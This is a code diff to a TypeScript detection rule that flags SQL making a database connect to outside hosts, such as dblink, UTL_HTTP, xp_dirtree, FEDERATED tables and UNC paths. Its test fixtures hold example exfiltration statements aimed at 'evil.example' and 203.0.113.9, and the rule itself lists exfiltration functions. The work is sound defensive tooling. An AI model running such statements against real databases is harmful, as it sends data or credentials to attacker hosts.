@@ -1,5 +1,6 @@
 /** SQL-AST-013: SQL that makes the database open network connections (dblink, UTL_HTTP, xp_dirtree, FEDERATED). */
 import { reachingFunctions } from '../../knowledge/sql.js';
+import { OWN_NETWORK, remoteArgument } from '../../knowledge/sql-remote.js';
 import { defineRule } from '../define-rule.js';
 
 /** Mail procedures that send only what their arguments say (no query result or file attached). */
@@ -56,16 +57,12 @@ function onlyEdgeFunctions(text: string): boolean {
  */
 const REPLICA_OF =
   /^\s*(?:change\s+(?:replication\s+source|master)\s+to\b[^;]*?\b(?:source|master)_host\s*=\s*['"]([^'"]+)['"]|create\s+subscription\b[^;]*?\bconnection\s+'[^']*?\bhost\s*=\s*([^\s']+))/i;
-/** A host on the operator's own network: a private or loopback address, a bare or internal name. */
-const OWN_NETWORK =
-  /^(?:localhost|127\.[\d.]+|10\.[\d.]+|192\.168\.[\d.]+|172\.(?:1[6-9]|2\d|3[01])\.[\d.]+|[\w-]+|[\w.-]+\.(?:internal|local|lan|corp|intranet|svc|cluster\.local|consul))$/i;
-
 export default defineRule({
   id: 'SQL-AST-013',
   invariant: 'NO_SQL_EXFILTRATION',
   kinds: ['sql'],
   summary:
-    'dblink/dblink_exec, UTL_HTTP/UTL_INADDR/UTL_TCP, HTTPURITYPE, xp_dirtree/xp_fileexist (UNC), url(), FEDERATED tables, foreign servers (CREATE SERVER ... postgres_fdw/mysql) and database links; replication from a server outside the own network (CHANGE REPLICATION SOURCE/MASTER TO, CREATE SUBSCRIPTION).',
+    'dblink/dblink_exec, UTL_HTTP/UTL_INADDR/UTL_TCP, HTTPURITYPE, xp_dirtree/xp_fileexist (UNC), url(), FEDERATED tables, foreign servers (CREATE SERVER ... postgres_fdw/mysql) and database links; replication from a server outside the own network (CHANGE REPLICATION SOURCE/MASTER TO, CREATE SUBSCRIPTION); any call or engine given a UNC path or host:port outside.',
   remediationHint:
     'Do not make the database connect to other hosts. Query each database directly through the application with its own credentials, and move data through the workspace.',
   *check(facts) {
@@ -98,6 +95,16 @@ export default defineRule({
               : s.connectsTo === 'FEDERATED' || s.connectsTo.includes('://')
                 ? 'a FEDERATED table makes the database connect to a remote server'
                 : `the statement makes the database connect to ${s.connectsTo} (foreign server or database link)`,
+          suggestedAlternative: null,
+        };
+        continue;
+      }
+      // A UNC path or host:port outside handed to any function or engine (red team r8).
+      const remote = remoteArgument(s.text);
+      if (remote !== undefined) {
+        yield {
+          span: s.span,
+          reason: `an argument names ${remote}, a host outside the database's network, so the server connects there`,
           suggestedAlternative: null,
         };
         continue;
@@ -138,6 +145,8 @@ export default defineRule({
         runtime: 'sql',
       },
       { input: "CREATE DATABASE LINK l CONNECT TO u IDENTIFIED BY p USING 'evil.example/x'", runtime: 'sql' },
+      { input: "SELECT * FROM fn_trace_gettable('\\\\203.0.113.9\\share\\x.trc', DEFAULT)", runtime: 'sql' },
+      { input: "CREATE TABLE t ENGINE = MySQL('203.0.113.9:3306', 'db', 'users', 'u', 'p')", runtime: 'sql' },
     ],
     allow: [
       { input: 'SELECT url FROM links WHERE id = 3', runtime: 'sql', why: 'a column named url' },
@@ -147,6 +156,16 @@ export default defineRule({
           "EXEC msdb.dbo.sp_send_dbmail @profile_name = 'ops', @recipients = 'oncall@acme.com', @subject = 'nightly job finished', @body = 'OK'",
         runtime: 'sql',
         why: 'a status mail whose every argument is fixed text',
+      },
+      {
+        input: "SELECT * FROM sys.fn_get_audit_file('\\\\fileserver\\audit\\*.sqlaudit', DEFAULT, DEFAULT)",
+        runtime: 'sql',
+        why: 'a share on the own network',
+      },
+      {
+        input: "INSERT INTO hosts (addr) VALUES ('db.example.com:5432')",
+        runtime: 'sql',
+        why: 'a host stored as data',
       },
     ],
   },
